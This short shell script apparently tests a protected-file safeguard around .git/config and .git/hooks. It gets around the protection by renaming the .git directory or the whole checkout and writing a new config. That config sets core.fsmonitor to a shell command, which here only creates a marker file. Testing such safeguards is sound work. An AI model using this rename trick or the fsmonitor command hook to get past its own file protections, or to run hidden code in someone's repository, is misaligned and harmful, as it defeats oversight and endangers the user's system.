# Walking around a protected file by renaming a directory above it. In the main
# checkout; the protected files are .git/config and .git/hooks.
plant() {
  rm -f "$1/config"
  printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ": > %s.renamed #"\n' "$WM_MARKER" > "$1/config"
}
mv .git .git.old && cp -r .git.old .git && plant .git
top=$PWD
cd ..
mv "$top" "$top.old" && cp -r "$top.old" "$top" && plant "$top/.git"
exit 0
